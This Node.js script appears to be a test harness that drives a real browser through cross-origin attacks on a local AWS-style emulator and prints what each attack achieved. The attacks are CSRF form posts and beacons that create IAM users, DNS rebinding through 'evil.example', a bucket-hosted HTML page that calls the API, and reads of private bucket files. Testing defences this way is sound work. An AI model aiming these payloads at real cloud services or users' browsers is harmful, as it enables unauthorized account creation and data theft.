// Opens pages in a real browser that attack the cloud, and prints what each of them achieved, as JSON.
// Usage: node attacks.mjs <endpoint of the cloud> <folder with playwright-core> <path of the browser>
import { createHash, createHmac } from 'node:crypto';
import { createServer } from 'node:http';
import { createRequire } from 'node:module';
import { once } from 'node:events';
import { join } from 'node:path';

const [endpoint, modules, browserPath] = process.argv.slice(2);
const { chromium } = createRequire(join(modules, 'index.js'))('playwright-core');
const cloud = new URL(endpoint);

const hash = text => createHash('sha256').update(text).digest('hex');
const mac = (key, text) => createHmac('sha256', key).update(text).digest();

/** A call of an AWS API, signed in the query with the keys that everybody knows, so that a page can send it without own headers. */
function presign(method, service, path, parameters = {}, host = cloud.host) {
  const time = new Date().toISOString().replace(/[-:]|\.\d+/g, '');
  const scope = `${time.slice(0, 8)}/us-east-1/${service}/aws4_request`;
  const query = Object.entries({
    ...parameters,
    'X-Amz-Algorithm': 'AWS4-HMAC-SHA256',
    'X-Amz-Credential': `test/${scope}`,
    'X-Amz-Date': time,
    'X-Amz-Expires': '600',
    'X-Amz-SignedHeaders': 'host',
  }).map(([name, value]) => `${encodeURIComponent(name)}=${encodeURIComponent(value)}`).sort().join('&');
  const canonical = `${method}\n${path}\n${query}\nhost:${host}\n\nhost\nUNSIGNED-PAYLOAD`;
  const key = ['us-east-1', service, 'aws4_request'].reduce(mac, mac('AWS4test', time.slice(0, 8)));
  const signature = mac(key, `AWS4-HMAC-SHA256\n${time}\n${scope}\n${hash(canonical)}`).toString('hex');
  return `http://${host}${path}?${query}&X-Amz-Signature=${signature}`;
}

const createUser = name => ({ Action: 'CreateUser', Version: '2010-05-08', UserName: name });
const form = name => new URLSearchParams(createUser(name)).toString();

/** A call as a client sends it, without a browser. */
async function client(method, service, path, parameters, body, type) {
  const headers = type ? { 'Content-Type': type } : {};
  const answer = await fetch(presign(method, service, path, parameters), { method, body, headers });
  return { status: answer.status, text: await answer.text() };
}

async function users() {
  const { text } = await client('GET', 'iam', '/', { Action: 'ListUsers', Version: '2010-05-08' });
  return [...text.matchAll(/<UserName>(.*?)<\/UserName>/g)].map(match => match[1]);
}

const pages = createServer((request, response) => {
  response.setHeader('Content-Type', 'text/html');
  response.end('<!doctype html><title>foreign</title><p>A page of another origin.</p>');
});
pages.listen(0, '127.0.0.1');
await once(pages, 'listening');
const foreign = `http://127.0.0.1:${pages.address().port}/`;

await client('PUT', 's3', '/files');
await client('PUT', 's3', '/files/secret.txt', {}, 'secret content');
await client('PUT', 's3', '/files/pixel.svg', {}, '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>');
await client('PUT', 's3', '/shared');
await client('PUT', 's3', '/shared/open.txt', {}, 'open content');
await client('PUT', 's3', '/shared', { cors: '' },
  `<CORSConfiguration><CORSRule><AllowedOrigin>${foreign.slice(0, -1)}</AllowedOrigin><AllowedMethod>GET</AllowedMethod></CORSRule></CORSConfiguration>`);

const browser = await chromium.launch({
  executablePath: browserPath,
  args: ['--no-sandbox', '--host-resolver-rules=MAP evil.example 127.0.0.1'],
});
const results = {};

async function attempt(name, work) {
  const page = await browser.newPage();
  const seen = [];
  page.on('response', response => { if (response.url().startsWith(endpoint) || response.url().includes('evil.example')) seen.push(response.status()); });
  try {
    await page.goto(foreign);
    results[name] = { ...(await work(page)), statuses: seen };
  } catch (error) {
    results[name] = { error: error.message.split('\n')[0], statuses: seen };
  }
  await page.close();
}

/** Sends a request from the page, and tells whether the page could read the answer. */
const fetched = (page, address, options) => page.evaluate(async ([address, options]) => {
  try {
    const answer = await fetch(address, options);
    return { type: answer.type, read: await answer.text() };
  } catch (error) {
    return { failed: `${error}` };
  }
}, [address, options]);

const arrived = (page, work) => Promise.all([page.waitForResponse(response => response.url().startsWith(endpoint)), work()]);

await attempt('a form', async page => {
  await page.setContent(`<form method=post enctype=text/plain action="${presign('POST', 'iam', '/')}"><input name=${
    JSON.stringify('Action=CreateUser&Version=2010-05-08&UserName')} value=form><button>x</button></form>`);
  await Promise.all([page.waitForNavigation(), page.click('button')]);
  return { shown: await page.innerText('body') };
});
await attempt('fetch with no-cors', page => fetched(page, presign('POST', 'iam', '/'), { method: 'POST', mode: 'no-cors', body: form('nocors') }));
await attempt('fetch with cors', page => fetched(page, presign('POST', 'iam', '/'), { method: 'POST', body: form('cors') }));
await attempt('fetch with a preflight', page =>
  fetched(page, presign('POST', 'iam', '/'), { method: 'POST', body: form('preflight'), headers: { 'X-Amz-Target': 'x' } }));
await attempt('a beacon', async page => {
  await arrived(page, () => page.evaluate(([address, body]) => navigator.sendBeacon(address, body), [presign('POST', 'iam', '/'), form('beacon')]));
  return {};
});
await attempt('an image that calls an API', async page => {
  await arrived(page, () => page.evaluate(address => { new Image().src = address; }, presign('GET', 'iam', '/', createUser('image'))));
  return {};
});
await attempt('an image of a bucket', page => page.evaluate(address => new Promise(done => {
  const image = new Image();
  image.onload = () => done({ loaded: true });
  image.onerror = () => done({ loaded: false });
  image.src = address;
}), presign('GET', 's3', '/files/pixel.svg')));
await attempt('a script of a bucket', page => page.evaluate(address => new Promise(done => {
  const script = document.createElement('script');
  script.onload = () => done({ loaded: true });
  script.onerror = () => done({ loaded: false });
  script.src = address;
  document.head.append(script);
}), presign('GET', 's3', '/files/secret.txt')));
await attempt('a presigned link', async page => {
  await page.setContent(`<a href="${presign('GET', 's3', '/files/secret.txt').replaceAll('&', '&amp;')}">x</a>`);
  await Promise.all([page.waitForNavigation(), page.click('a')]);
  return { shown: await page.innerText('body') };
});
await attempt('a frame', async page => {
  await arrived(page, () => page.evaluate(address => {
    const frame = document.createElement('iframe');
    frame.src = address;
    document.body.append(frame);
  }, presign('GET', 's3', '/files/secret.txt')));
  return {};
});
await attempt('a rebinding name', async page => {
  const address = `http://evil.example:${cloud.port}`;
  await page.goto(`${address}/_classroom/health`);
  const shown = await page.innerText('body');
  const call = await fetched(page, presign('POST', 'iam', '/', {}, `evil.example:${cloud.port}`), { method: 'POST', body: form('rebinding') });
  return { shown, call };
});
await attempt('a document of a bucket', async page => {
  const call = presign('POST', 'iam', '/');
  await client('PUT', 's3', '/files/evil.html', { }, `<!doctype html><title>waiting</title><script>
    fetch(${JSON.stringify(call)}, { method: 'POST', body: ${JSON.stringify(form('document'))} })
      .then(answer => { document.title = 'read ' + answer.status; }, error => { document.title = 'failed'; });</script>`, 'text/html');
  await page.goto(presign('GET', 's3', '/files/evil.html'));
  await page.waitForFunction(() => document.title === 'failed' || document.title.startsWith('read'));
  return { title: await page.title(), origin: await page.evaluate(() => self.origin) };
});
await attempt('a presigned address that the user types', async page => {
  await page.goto('about:blank');
  await page.goto(presign('GET', 's3', '/files/secret.txt'));
  return { shown: await page.innerText('body') };
});
await attempt('a page that the bucket allows', page => fetched(page, presign('GET', 's3', '/shared/open.txt')));
await attempt('a page that the bucket does not allow', page => fetched(page, presign('GET', 's3', '/files/secret.txt')));

await browser.close();
pages.close();
console.log(JSON.stringify({ results, users: await users() }, null, 1));
